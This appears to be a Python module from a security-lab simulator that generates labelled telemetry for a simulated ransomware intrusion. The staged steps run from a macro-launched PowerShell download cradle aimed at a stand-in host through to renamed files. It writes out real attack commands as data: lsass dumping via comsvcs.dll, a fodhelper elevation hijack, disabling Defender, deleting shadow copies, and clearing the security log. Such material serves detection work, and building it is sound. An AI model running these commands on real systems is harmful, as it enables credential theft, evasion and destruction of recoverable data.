"""The ransomware precursor: one intrusion from a macro to the first renamed files.

Every record it writes is labelled in the ground truth with its step. It stops before the mass of
the data is touched.
"""

from base64 import b64encode
from collections.abc import Callable
from typing import NamedTuple

from tocsin.lab import logons, services
from tocsin.lab.hosts import Process, Session
from tocsin.lab.network import connect, reach, resolve
from tocsin.lab.operations import run
from tocsin.lab.people import BACKUP_ACCOUNT, Person
from tocsin.lab.processes import (
    create_file,
    finish,
    load,
    open_desktop,
    open_process,
    pipe,
    set_registry,
    spawn,
    spawn_file,
)
from tocsin.lab.programs import program
from tocsin.lab.world import MINUTE, SECOND, Habit, World
from tocsin.lab.write import Step

VICTIM = "ines.falk"
STOLEN = "arne.vogt"
SPAN = 41 * MINUTE
"""From the opened attachment to the last renamed file."""

_HOME = ("cdn.quickharbor-assets.example", "203.0.113.66")
_CRADLE = (
    "IEX (New-Object Net.WebClient).DownloadString("
    "'http://cdn.quickharbor-assets.example/assets/theme')"
)
_DUMP_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcbe|"
    "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6d4e|C:\\Windows\\System32\\comsvcs.dll+2e1c1"
)
_TOOL = "C:\\Windows\\qhsvc.exe"


def _encoded(script: str) -> str:
    return b64encode(script.encode("utf-16-le")).decode()


class _Move(NamedTuple):
    minute: float
    step: Step
    act: Callable[[], None]


class Campaign:
    """The intruder's state: which processes and sessions are theirs."""

    def __init__(self, world: World) -> None:
        self.world = world
        people = {person.account.name: person for person in world.people}
        self.victim: Person = people[VICTIM]
        self.stolen: Person = people[STOLEN]
        self.station = world.station(self.victim)
        self.files = world.hosts["FS01"]
        self.backups = world.hosts["BK01"]
        self.temp = f"{self.victim.home}\\AppData\\Local\\Temp"
        self.office: Process
        self.shell: Process
        self.elevated: Process
        self.foothold: Process
        self.admin: Session
        self.remote: Process

    def habit(self) -> Habit:
        """The intrusion, from the time it is begun."""
        begun = self.world.now
        for move in self.moves():
            yield max(0, begun + int(move.minute * MINUTE) - self.world.now)
            self.world.files.step = move.step
            move.act()
            self.world.files.step = None
        random = self.world.random_for("campaign")
        for number in range(60):
            self.world.files.step = Step("rename documents", "T1486")
            self._lock(number)
            self.world.files.step = None
            yield random.randint(300_000, 2 * SECOND)

    def moves(self) -> tuple[_Move, ...]:
        """What is done at which minute."""
        return (
            _Move(0.0, Step("attachment arrives", "T1566.001", quiet=True), self._attachment),
            _Move(0.5, Step("macro starts a shell", "T1204.002"), self._macro),
            _Move(0.8, Step("encoded script", "T1059.001"), self._encoded_script),
            _Move(1.2, Step("download cradle", "T1105"), self._cradle),
            _Move(2.5, Step("run key", "T1547.001"), self._run_key),
            _Move(3.2, Step("scheduled task", "T1053.005"), self._task),
            _Move(5.0, Step("local discovery", "T1033"), self._discover),
            _Move(6.5, Step("domain discovery", "T1482"), self._discover_domain),
            _Move(8.0, Step("service tickets with weak cipher", "T1558.003"), self._roast),
            _Move(10.0, Step("elevation by auto-elevated program", "T1548.002"), self._elevate),
            _Move(12.0, Step("memory of lsass", "T1003.001"), self._dump),
            _Move(15.0, Step("service on the file server", "T1569.002"), self._service),
            _Move(17.0, Step("named pipe of the tool", "T1570", quiet=True), self._pipe),
            _Move(19.0, Step("remote process by WMI", "T1047"), self._wmi),
            _Move(22.0, Step("remote desktop enabled", "T1112"), self._enable_desktop),
            _Move(23.0, Step("remote desktop used", "T1021.001", quiet=True), self._desktop),
            _Move(25.0, Step("archive staged", "T1560.001"), self._stage),
            _Move(28.0, Step("protection disabled", "T1562.001"), self._blind),
            _Move(31.0, Step("backup service stopped", "T1489"), self._stop_backup),
            _Move(33.0, Step("shadow copies deleted", "T1490"), self._no_recovery),
            _Move(36.0, Step("security log cleared", "T1070.001"), self._clear),
            _Move(38.0, Step("ransom note", "T1486"), self._note),
        )

    def _desk(self) -> Process:
        desk = self.world.desks.get(VICTIM)
        if desk is not None:
            return desk
        account = self.victim.account
        session = logons.log_on(self.world, self.station, account, 2, self.station)
        return open_desktop(self.world, session)

    def _attachment(self) -> None:
        world = self.world
        mail = run(world, self._desk(), "outlook", f'"{program("outlook").image}"')
        path = f"{self.victim.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
        document = f"{path}\\K7Q2M4ZT\\Freight invoice 8841.docm"
        create_file(world, mail, document)
        self.office = run(world, mail, "word", f'"{program("word").image}" /n "{document}"')
        load(world, self.office, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBE7.DLL")

    def _macro(self) -> None:
        self.foothold = run(
            self.world,
            self.office,
            "cmd",
            f"cmd.exe /c start /b powershell.exe -w hidden -nop -enc {_encoded(_CRADLE)}",
        )

    def _encoded_script(self) -> None:
        self.shell = run(
            self.world,
            self.foothold,
            "powershell",
            f"powershell.exe -w hidden -nop -enc {_encoded(_CRADLE)}",
        )

    def _cradle(self) -> None:
        services.run_script(self.world, self.shell, _CRADLE)
        resolve(self.world, self.shell, *_HOME)
        connect(self.world, self.shell, _HOME[1], 80, _HOME[0])
        create_file(self.world, self.shell, f"{self.temp}\\hx64.exe")

    def _run_key(self) -> None:
        sid = self.victim.account.sid
        key = f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\HarborSync"
        set_registry(self.world, self.shell, key, f"{self.temp}\\hx64.exe")

    def _task(self) -> None:
        command = (
            f"schtasks.exe /create /f /sc minute /mo 30 /tn HarborSync /tr {self.temp}\\hx64.exe"
        )
        self._tool(self.shell, "schtasks", command)
        services.schedule(self.world, self.shell.session, "\\HarborSync", f"{self.temp}\\hx64.exe")

    def _tool(self, parent: Process, name: str, command: str) -> None:
        finish(self.world, run(self.world, parent, name, command))

    def _discover(self) -> None:
        for name, command in (
            ("whoami", "whoami.exe /all"),
            ("ipconfig", "ipconfig.exe /all"),
            ("systeminfo", "systeminfo.exe"),
            ("quser", "quser.exe"),
            ("tasklist", "tasklist.exe /v"),
        ):
            self._tool(self.shell, name, command)

    def _discover_domain(self) -> None:
        for name, command in (
            ("nltest", "nltest.exe /domain_trusts /all_trusts"),
            ("net", 'net.exe group "Domain Admins" /domain'),
            ("net", "net.exe view /all /domain"),
        ):
            self._tool(self.shell, name, command)
        reach(self.world, self.shell, self.world.hosts["DC01"], 389)

    def _roast(self) -> None:
        account = self.victim.account
        for name, number in (("svc_backup", 1601), ("svc_build", 1604)):
            sid = BACKUP_ACCOUNT.sid.rsplit("-", 1)[0]
            logons.ticket(self.world, account, self.station, name, f"{sid}-{number}", "0x17")

    def _elevate(self) -> None:
        sid = self.victim.account.sid
        key = f"HKU\\{sid}_Classes\\ms-settings\\shell\\open\\command"
        set_registry(self.world, self.shell, f"{key}\\DelegateExecute", "(Empty)")
        set_registry(self.world, self.shell, f"{key}\\(Default)", f"{self.temp}\\hx64.exe")
        helper = spawn_file(
            self.world, self.shell, "C:\\Windows\\System32\\fodhelper.exe", "fodhelper.exe"
        )
        self.elevated = spawn(
            self.world,
            helper,
            program("powershell"),
            f"powershell.exe -nop -w hidden -enc {_encoded('Start-Sleep 5')}",
            integrity="High",
        )

    def _dump(self) -> None:
        lsass = self.station.system["lsass.exe"]
        out = "C:\\ProgramData\\hs.dmp"
        command = (
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {out} full"
        )
        dumper = run(self.world, self.elevated, "rundll32", command)
        load(self.world, dumper, "C:\\Windows\\System32\\comsvcs.dll")
        load(self.world, dumper, "C:\\Windows\\System32\\dbgcore.dll")
        open_process(self.world, dumper, lsass, "0x1fffff", _DUMP_TRACE)
        create_file(self.world, dumper, out)
        finish(self.world, dumper)

    def _service(self) -> None:
        world, account = self.world, self.stolen.admin
        if account is None:
            raise ValueError(f"{STOLEN} has no privileged account to steal")
        reach(world, self.elevated, self.files, 445)
        logons.run_as(world, self.elevated.session, account, self.files, self.elevated.image)
        logons.ticket_granting(world, account, self.station)
        self.admin = logons.log_on(world, self.files, account, 3, self.station)
        logons.open_share(world, self.admin, self.station, "ADMIN$")
        logons.use_file(world, self.admin, self.station, "ADMIN$", "qhsvc.exe", write=True)
        create_file(world, self.files.system["System"], _TOOL)
        services.install(world, self.admin, "qhsvc", _TOOL)
        tool = spawn_file(world, self.files.system["services.exe"], _TOOL, _TOOL)
        services.change_state(world, self.files, "qhsvc", "running")
        self.remote = run(world, tool, "cmd", "C:\\Windows\\System32\\cmd.exe")

    def _pipe(self) -> None:
        tool = self.remote.parent or self.remote
        for suffix in ("stdin", "stdout"):
            pipe(self.world, tool, f"\\qhsvc-{self.station.name}-{suffix}", create=True)

    def _wmi(self) -> None:
        world = self.world
        encoded = _encoded("Get-Service Vaultback")
        command = f"powershell.exe -nop -w hidden -enc {encoded}"
        caller = run(
            world,
            self.elevated,
            "wmic",
            f'wmic.exe /node:"{self.backups.name}" process call create "{command}"',
        )
        reach(world, caller, self.backups, 135)
        account = self.admin.account
        session = logons.log_on(world, self.backups, account, 3, self.station)
        provider = run(
            world, self.backups.system["svchost:DcomLaunch"], "wmiprvse", "wmiprvse.exe -secured"
        )
        self.foothold = spawn(
            world, provider, program("powershell"), command, session, integrity="High"
        )
        finish(world, caller)

    def _enable_desktop(self) -> None:
        key = "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server"
        command = f'reg.exe add "{key}" /v fDenyTSConnections /t REG_DWORD /d 0 /f'
        tool = run(self.world, self.remote, "reg", command)
        set_registry(self.world, tool, f"{key}\\fDenyTSConnections", "DWORD (0x00000000)")
        finish(self.world, tool)

    def _desktop(self) -> None:
        client = run(self.world, self.elevated, "mstsc", "mstsc.exe /v:FS01")
        reach(self.world, client, self.files, 3389)
        session = logons.log_on(self.world, self.files, self.admin.account, 10, self.station)
        open_desktop(self.world, session)

    def _stage(self) -> None:
        command = (
            "C:\\ProgramData\\7za.exe a -phq8841 -v500m C:\\ProgramData\\f.7z D:\\Shared\\Finance"
        )
        packer = spawn_file(self.world, self.remote, "C:\\ProgramData\\7za.exe", command)
        create_file(self.world, packer, "C:\\ProgramData\\f.7z.001")
        finish(self.world, packer)

    def _blind(self) -> None:
        command = "powershell.exe -nop Set-MpPreference -DisableRealtimeMonitoring $true"
        shell = run(self.world, self.remote, "powershell", command)
        services.run_script(self.world, shell, "Set-MpPreference -DisableRealtimeMonitoring $true")
        key = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection"
        guard = self.files.system["MsMpEng.exe"]
        set_registry(self.world, guard, f"{key}\\DisableRealtimeMonitoring", "DWORD (0x00000001)")
        finish(self.world, shell)

    def _stop_backup(self) -> None:
        world, host = self.world, self.backups
        for name, command in (
            ("net", 'net.exe stop "Vaultback Service" /y'),
            ("sc", "sc.exe config VaultbackService start= disabled"),
        ):
            self._tool(self.foothold, name, command)
        services.change_state(world, host, "Vaultback Service", "stopped")
        services.change_start(
            world, host, self.admin.account, "Vaultback Service", "auto start > disabled"
        )

    def _no_recovery(self) -> None:
        for parent in (self.remote, self.foothold):
            for name, command in (
                ("vssadmin", "vssadmin.exe delete shadows /all /quiet"),
                ("wbadmin", "wbadmin.exe delete catalog -quiet"),
                ("bcdedit", "bcdedit.exe /set {default} recoveryenabled no"),
            ):
                self._tool(parent, name, command)

    def _clear(self) -> None:
        command = "C:\\Windows\\System32\\wevtutil.exe cl Security"
        image = "C:\\Windows\\System32\\wevtutil.exe"
        tool = spawn_file(self.world, self.remote, image, command)
        services.clear_log(self.world, self.admin)
        finish(self.world, tool)

    def _note(self) -> None:
        tool = self.remote.parent or self.remote
        for folder in ("Finance", "Sales", "Legal"):
            create_file(self.world, tool, f"D:\\Shared\\{folder}\\HOW_TO_RESTORE_FILES.txt")

    def _lock(self, number: int) -> None:
        tool = self.remote.parent or self.remote
        folder = ("Finance", "Sales", "Legal")[number % 3]
        create_file(self.world, tool, f"D:\\Shared\\{folder}\\document {number}.docx.qhlock")
